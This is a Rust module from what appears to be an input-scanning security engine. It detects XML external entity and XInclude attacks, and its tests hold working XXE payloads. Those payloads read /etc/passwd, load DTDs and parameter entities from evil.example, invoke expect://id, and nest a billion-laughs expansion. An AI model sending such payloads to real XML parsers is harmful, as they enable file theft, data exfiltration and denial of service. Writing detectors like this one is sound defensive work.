//! XML external entities (XXE) and XInclude.
//!
//! # Grammar
//!
//! ```text
//! attack := "<!ENTITY" ws* name ws* ("SYSTEM" | "PUBLIC") ...   an external entity
//!         | "<!ENTITY" ws* "%" ...                              a parameter entity
//!         | "<!ENTITY" ws* name ws* quote (... "&" name ";"){3,}  an expansion step
//!         | "<!DOCTYPE" ws* name ws* "SYSTEM" ...               an external DTD
//!         | "<!DOCTYPE" ws* name ws* "PUBLIC" ... (not "-//W3C//")
//!         | "<!DOCTYPE" ... "[" ... "%" name ";"                a parameter entity reference
//!         | "http://www.w3.org/2001/XInclude"  anywhere          XInclude
//!         | "<" prefix ":include" ... "href"                     XInclude, undeclared
//! ```
//!
//! Keywords are matched without regard to case.
//!
//! A document type with a `PUBLIC` identifier of the W3C's own DTDs (XHTML, SVG,
//! MathML) is how web pages start, not an attack: `<!DOCTYPE html PUBLIC
//! "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/...">` passes. Internal
//! entities that expand to text (`<!ENTITY who "alice">`) pass too; the engine's XML
//! processor expands them, bounded, so the rules see the result.
//!
//! Linear: each `<!` is looked at once, with a bounded look-ahead.

use crate::text::{find_ci, is_space, skip_space, starts_with_ci};
use crate::{Class, Finding};

/// How far a declaration is read.
const DECL: usize = 1024;

/// A necessary condition for [`scan`], cheap to check: without it `scan` finds
/// nothing (it checks it first), so a value that fails it need not be scanned.
pub(crate) fn may_match(input: &[u8]) -> bool {
    memchr::memmem::find(input, b"<!").is_some()
        || find_ci(input, 0, b"xinclude").is_some()
        || find_ci(input, 0, b":include").is_some()
}

/// Scans `input` for an external entity, an external DTD or XInclude.
pub fn scan(input: &[u8]) -> Option<Finding> {
    if !may_match(input) {
        return None;
    }
    let s = input;
    let mut from = 0;
    while let Some(at) = find_ci(s, from, b"<!") {
        from = at + 2;
        let end = (at + DECL).min(s.len());
        let decl = &s[at..end];
        let found = |rule| Some(Finding::new(Class::Xxe, rule, at..end));
        if starts_with_ci(decl, 2, b"entity") {
            let mut k = skip_space(decl, 8);
            let parameter = decl.get(k) == Some(&b'%');
            if parameter {
                return found("parameter entity");
            }
            // The name, then SYSTEM or PUBLIC.
            while k < decl.len() && !is_space(decl[k]) {
                k += 1;
            }
            let k = skip_space(decl, k);
            if starts_with_ci(decl, k, b"system") || starts_with_ci(decl, k, b"public") {
                return found("external entity");
            }
            // An internal entity whose text names three or more other entities:
            // the step of an exponential expansion ("billion laughs").
            if let Some(&q) = decl.get(k)
                && matches!(q, b'"' | b'\'')
            {
                let text = &decl[k + 1..];
                let text = &text[..memchr::memchr(q, text).unwrap_or(text.len())];
                let references = memchr::memchr_iter(b'&', text)
                    .filter(|&a| {
                        text.get(a + 1)
                            .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_')
                    })
                    .count();
                if references >= 3 {
                    return found("entity that expands other entities");
                }
            }
        } else if starts_with_ci(decl, 2, b"doctype") {
            let mut k = skip_space(decl, 9);
            while k < decl.len() && !is_space(decl[k]) && decl[k] != b'[' && decl[k] != b'>' {
                k += 1;
            }
            let k = skip_space(decl, k);
            if starts_with_ci(decl, k, b"system") {
                return found("external document type");
            }
            if starts_with_ci(decl, k, b"public") && find_ci(decl, k, b"-//w3c//").is_none() {
                return found("external document type");
            }
            // A parameter entity reference inside the internal subset.
            if let Some(open) = memchr::memchr(b'[', decl) {
                let subset_end =
                    memchr::memchr(b']', &decl[open..]).map_or(decl.len(), |e| open + e);
                let subset = &decl[open..subset_end];
                if let Some(p) = memchr::memchr(b'%', subset)
                    && subset.get(p + 1).is_some_and(|c| c.is_ascii_alphabetic())
                    && subset[p + 1..].iter().take(64).any(|&c| c == b';')
                {
                    return found("parameter entity reference");
                }
            }
        }
    }
    if let Some(at) = find_ci(s, 0, b"http://www.w3.org/2001/xinclude") {
        return Some(Finding::new(Class::Xxe, "XInclude", at..at + 31));
    }
    if let Some(at) = find_ci(s, 0, b":include") {
        // `<xi:include href=...>` without the namespace declared here.
        let tag = s[..at].iter().rposition(|&c| c == b'<');
        if let Some(t) = tag
            && at - t < 16
            && find_ci(&s[at..(at + 256).min(s.len())], 0, b"href").is_some()
        {
            return Some(Finding::new(Class::Xxe, "XInclude", t..at + 8));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(s: &str) -> bool {
        scan(s.as_bytes()).is_some()
    }

    #[test]
    fn attacks() {
        for s in [
            r#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#,
            r#"<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://evil.example/x.dtd"> %xxe;]>"#,
            r#"<!DOCTYPE data SYSTEM "http://evil.example/evil.dtd"><data/>"#,
            r#"<!ENTITY xxe PUBLIC "x" "http://evil.example/">"#,
            r#"<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>"#,
            r#"<xi:include href="file:///etc/passwd" parse="text"/>"#,
            r#"<!doctype x [ <!entity x system "expect://id"> ]>"#,
            r#"<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><r>&c;</r>"#,
        ] {
            assert!(hit(s), "missed: {s}");
        }
    }

    #[test]
    fn benign() {
        for s in [
            r#"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">"#,
            "<!DOCTYPE html><html><body>hi</body></html>",
            r#"<!DOCTYPE r [<!ENTITY who "alice">]><r>&who;</r>"#,
            "<!-- a comment -->",
            "<note><to>Tove</to></note>",
            "100% sure; <b>bold</b>",
            r#"<!DOCTYPE r [<!ENTITY c "&#169; &#x2122; &amp;">]><r>&c;</r>"#,
            r#"<!DOCTYPE r [<!ENTITY full "&first; &last;">]><r>&full;</r>"#,
        ] {
            assert!(!hit(s), "false positive: {s}: {:?}", scan(s.as_bytes()));
        }
    }
}
